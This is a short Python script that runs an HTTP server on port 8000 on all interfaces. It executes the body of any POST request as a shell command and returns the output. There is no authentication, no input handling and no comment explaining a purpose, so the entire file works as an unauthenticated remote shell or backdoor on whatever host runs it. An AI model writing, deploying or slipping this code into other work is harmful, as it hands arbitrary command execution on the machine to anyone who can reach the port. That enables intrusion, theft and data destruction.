import subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer


class Answer(BaseHTTPRequestHandler):
    def do_POST(self):
        line = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.wfile.write(subprocess.getoutput(line).encode())


HTTPServer(("", 8000), Answer).serve_forever()
